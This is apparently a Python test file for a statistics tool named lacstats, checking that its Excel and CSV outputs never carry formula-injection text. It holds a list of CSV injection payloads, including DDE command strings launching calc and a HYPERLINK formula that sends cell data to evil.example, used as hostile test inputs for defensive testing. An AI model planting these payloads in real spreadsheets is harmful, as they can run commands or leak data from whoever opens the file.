"""Nothing lacstats writes can run in its reader's spreadsheet (issue #31, safe cells).

A return, an SSDA903 extract or a study file may hold text that a spreadsheet evaluates
(OWASP, "CSV Injection": a cell beginning with = + - @, a tab or a carriage return). Every
workbook and CSV file lacstats writes is scanned here, whatever the inputs hold: no cell is
a formula and no text cell begins with a formula character (a plain number such as -40.0
is a number, not a formula).
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from lacstats import cells, cli, collect, reporting, ssda903, study, synthetic

#: Payloads from the issue and OWASP's page.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click to fix")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]

#: Text that a spreadsheet would evaluate, and text of any kind.
hostile = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(
        lambda first, rest: first + rest,
        st.sampled_from(sorted(cells.FORMULA_STARTS)),
        st.text(
            alphabet=st.characters(blacklist_categories=("Cs", "Cc")),
            max_size=30,
        ),
        # a plain number ("+0", "-4.5") is a number, not a formula (test_numbers_stay_numbers)
    ).filter(lambda text: cells._NUMBER.fullmatch(text) is None),
)


def _cells_of(path: Path) -> list[tuple[str, object, str]]:
    """Every cell of a written workbook or CSV file: (where, value, openpyxl data type)."""
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(path)  # not read-only: data types are kept
        found = []
        for sheet in book.worksheets:
            found.append((f"{path.name}: sheet title", sheet.title, "s"))
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is not None:
                        found.append(
                            (
                                f"{path.name}!{sheet.title}!{cell.coordinate}",
                                cell.value,
                                cell.data_type,
                            )
                        )
        return found
    with path.open(newline="", encoding="utf-8") as handle:
        return [
            (f"{path.name}, line {k}", value, "s")
            for k, row in enumerate(csv.reader(handle), start=1)
            for value in row
        ]


def assert_no_formula(folder: Path) -> int:
    """No cell of any workbook or CSV under ``folder`` is a formula or would be evaluated;
    the number of cells checked."""
    files = [p for p in sorted(folder.rglob("*")) if p.suffix in (".xlsx", ".csv")]
    assert files, folder
    checked = 0
    for path in files:
        for where, value, kind in _cells_of(path):
            assert kind != "f", f"{where}: a formula {value!r}"
            assert not cells.is_formula(value), f"{where}: evaluated text {value!r}"
            checked += 1
    return checked


def _run_cli(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = cli.main(argv)
        except SystemExit as stop:
            code = stop.code
    return code, out.getvalue(), err.getvalue()


# --- the helper -------------------------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(text=st.text())
def test_safe_text_is_never_evaluated_and_keeps_the_text(text):
    shown = cells.safe_text(text, limit=None)
    assert not cells.is_formula(shown)
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    clean = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", lines)
    assert shown in (clean, f"'{clean}")


@settings(max_examples=100, deadline=None)
@given(text=hostile)
def test_formula_text_is_quoted(text):
    assert cells.is_formula(text)
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    assert cells.safe_text(text, limit=None) == f"'{lines}"


@given(number=st.one_of(st.integers(), st.floats(allow_nan=False)))
def test_numbers_stay_numbers(number):
    assert cells.safe_value(number) is number
    written = repr(number)  # a number written as text is shown as written
    assert cells.safe_text(written) == written or written in ("inf", "-inf")


def test_negative_numbers_written_as_numbers(tmp_path):
    data = cells.xlsx_bytes({"t": pd.DataFrame({"change": [-3.5, 2], "text": ["-40.0", "=1"]})})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["t"]
    assert [c.value for c in sheet["A"]] == ["change", -3.5, 2]
    assert sheet["A2"].data_type == "n"
    assert [c.value for c in sheet["B"]] == ["text", "-40.0", "'=1"]


def test_a_200_mb_string_is_cut_and_named():
    shown = cells.safe_text("x" * 200_000_000)
    assert len(shown) < 300
    assert shown.endswith("(200,000,000 characters)")


# --- every writer ------------------------------------------------------------------------

AUTHORITIES = ["Slough", "Windsor and Maidenhead"]


@pytest.fixture(scope="module")
def small_study(tmp_path_factory) -> study.Study:
    path = tmp_path_factory.mktemp("study") / "east_berks.toml"
    path.write_text(
        '[study]\nname = "east_berks"\ntitle = "=HYPERLINK(\\"http://evil.example\\",\\"x\\")"\n'
        '[authorities]\nlist = ["Slough", "Windsor and Maidenhead"]\n'
        "[design]\nselection = \"@SUM(1+1)*cmd|' /C calc'!A0\"\n",
        encoding="utf-8",
    )
    return study.load(path)


@pytest.fixture(scope="module")
def small_cases(small_study) -> pd.DataFrame:
    return synthetic.sample(small_study, rng=3)


def _typed_workbook(path: Path, sheets: dict[str, pd.DataFrame]) -> None:
    """A return as an authority's spreadsheet holds text: every text cell a typed string
    (as Excel stores text typed into a cell), never a formula."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, frame in sheets.items():
        sheet = book.create_sheet(title)
        for i, row in enumerate(
            [list(frame.columns), *frame.astype(object).to_numpy().tolist()], 1
        ):
            for j, value in enumerate(row, 1):
                if (
                    value is None
                    or (isinstance(value, float) and np.isnan(value))
                    or value is pd.NA
                ):
                    continue
                cell = sheet.cell(i, j)
                cell.value = value.item() if isinstance(value, np.generic) else value
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    book.save(path)


@settings(
    max_examples=8,
    deadline=None,
    phases=[Phase.explicit, Phase.reuse, Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    value=hostile,
    column=hostile,
    sheet=st.sampled_from(["=cmd|' /C calc'!A0", "+1", "-x", "@x", "=HYPERLINK(1)"]),
    fmt=st.sampled_from(["xlsx", "csv"]),
)
def test_issues_lists_never_carry_a_formula(
    tmp_path_factory, small_study, small_cases, value, column, sheet, fmt
):
    """A return with hostile text in a cell (sex, placement setting, authority), a column
    name, an extra sheet's name: every issues list (XLSX or CSV) shows it as text."""
    folder = tmp_path_factory.mktemp("returns")
    cases = small_cases.astype({"sex": object, "placement_setting": object, "authority": object})
    cases.loc[cases.index[0], "sex"] = value
    cases.loc[cases.index[1], "placement_setting"] = value
    cases.loc[cases.index[2], "authority"] = value
    cases[column] = value
    for k, (_, part) in enumerate(cases.groupby("authority", sort=True)):
        _typed_workbook(
            folder / f"return_{k}.xlsx",
            {"Cases": part, cells.sheet_title(sheet): pd.DataFrame({"note": [value]})},
        )
    # a hostile column name may leave every return unread: the issues are still listed
    merged = collect.merge([folder], study=small_study, errors="drop", allow_missing=True)
    assert len(merged.issues) >= 3  # the extra sheet, the column, the cells
    out = tmp_path_factory.mktemp("issues") / "issues"
    merged.write_issues(out, fmt=fmt)
    assert assert_no_formula(out) > 8


def test_issues_from_the_command_line_are_safe(tmp_path, small_study, small_cases):
    returns = tmp_path / "returns"
    returns.mkdir()
    cases = small_cases.astype({"placement_setting": object})
    cases.loc[cases.index[0], "placement_setting"] = PAYLOADS[0]
    for name, part in cases.groupby("authority", observed=True):
        part.to_csv(returns / f"{name}.csv", index=False)
    code, _, err = _run_cli(
        [
            "collect",
            "merge",
            str(returns),
            "--study",
            str(small_study.source),
            "--out",
            str(tmp_path / "cases.csv"),
            "--issues-format",
            "csv",
        ]
    )
    assert code == 2, err
    issues = tmp_path / "cases_issues"
    assert assert_no_formula(issues) > 8
    text = (issues / "issues.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text


def test_templates_are_safe_whatever_the_study_says(tmp_path, small_study):
    """The study's title and selection rule and --return-to are echoed in every template."""
    templates = collect.template(small_study, return_to="=cmd|' /C calc'!A0")
    out = tmp_path / "templates"
    templates.write(out)
    assert assert_no_formula(out) > 100
    book = openpyxl.load_workbook(out / "east_berks_Slough.xlsx")
    texts = [c.value for row in book["Instructions"].iter_rows() for c in row]
    assert any(isinstance(t, str) and t.startswith("'=HYPERLINK") for t in texts)


def test_validation_report_is_safe(tmp_path):
    """An SSDA903 return whose PLACE code is a formula: the report shows it as text."""
    returns = tmp_path / "returns"
    returns.mkdir()
    for path in ssda903.fake903_path().glob("2019-*.csv"):
        (returns / path.name).write_bytes(path.read_bytes())
    episodes = returns / "2019-episodes.csv"
    frame = pd.read_csv(episodes, dtype=str)
    frame.loc[0, "PLACE"] = "=cmd|' /C calc'!A0"
    frame.loc[1, "RNE"] = PAYLOADS[0]
    frame.to_csv(episodes, index=False)
    out = tmp_path / "report" / "report.xlsx"
    code, _, err = _run_cli(["ssda903", "validate", str(returns), "--out", str(out)])
    assert code == 1, err
    assert assert_no_formula(out.parent) > 20
    values = [c.value for c in openpyxl.load_workbook(out)["problems"].iter_rows() for c in c]
    assert "'=cmd|' /C calc'!A0" in values


def test_packs_are_safe_whatever_the_source_says(tmp_path, small_study, small_cases):
    """The case table's name is echoed on every pack (notes sheet, HTML)."""
    packs = reporting.write_all(
        small_cases,
        tmp_path / "packs",
        source='=HYPERLINK("http://evil.example","fix")',
        study=small_study,
        synthetic=True,
    )
    assert len(packs) == 4
    assert assert_no_formula(tmp_path / "packs") > 100
    html = (tmp_path / "packs" / "Slough.html").read_text(encoding="utf-8")
    assert "&quot;http://evil.example&quot;" in html


def test_design_status_and_sweep_files_are_safe(tmp_path, small_study, small_cases):
    returns = tmp_path / "returns"
    returns.mkdir()
    for name, part in small_cases.groupby("authority", observed=True):
        part.to_csv(returns / f"{name}.csv", index=False)
    code, _, err = _run_cli(
        [
            "collect",
            "status",
            str(returns),
            "--study",
            str(small_study.source),
            "--out",
            str(tmp_path / "status"),
        ]
    )
    assert code == 0, err
    code, _, err = _run_cli(
        ["design", "--study", str(small_study.source), "--out", str(tmp_path / "d" / "design.csv")]
    )
    assert code == 0, err
    assert assert_no_formula(tmp_path / "status") > 10
    assert assert_no_formula(tmp_path / "d") > 10


def test_a_carriage_return_never_starts_a_row_of_a_csv_file():
    """Found by the property test: pandas' CSV writer (lines ending \\n) leaves a cell
    holding a carriage return unquoted, so a spreadsheet starts a new row at it and
    '=1+1' begins a cell. The CR becomes a line feed: the cell is quoted, one row."""
    text = cells.csv_text(pd.DataFrame({"value": ["\r=1+1", "a\r=2+2"]}))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["value"], ["'\n=1+1"], ["a\n=2+2"]]


def test_numbers_in_written_tables_stay_numbers():
    frame = pd.DataFrame(
        {"change": np.array([-1.5, 0.0, 2.25]), "label": ["a", "-b", "+44 1234 567890"]}
    )
    text = cells.csv_text(frame)
    assert text == "change,label\n-1.5,a\n0.0,'-b\n2.25,'+44 1234 567890\n"


def test_control_characters_in_a_csv_return_reach_a_workbook_safely(
    tmp_path, small_study, small_cases
):
    returns = tmp_path / "returns"
    returns.mkdir()
    cases = small_cases.astype({"sex": object})
    cases.loc[cases.index[0], "sex"] = "\x01=1+1\x1f"
    for name, part in cases.groupby("authority", observed=True):
        part.to_csv(returns / f"{name}.csv", index=False)
    merged = collect.merge([returns], study=small_study, errors="drop")
    merged.write_issues(tmp_path / "issues", fmt="xlsx")
    assert assert_no_formula(tmp_path / "issues") > 8
    book = openpyxl.load_workbook(tmp_path / "issues" / "east_berks_Slough_issues.xlsx")
    assert "\ufffd=1+1\ufffd" in [c.value for c in book["Issues"]["F"]]
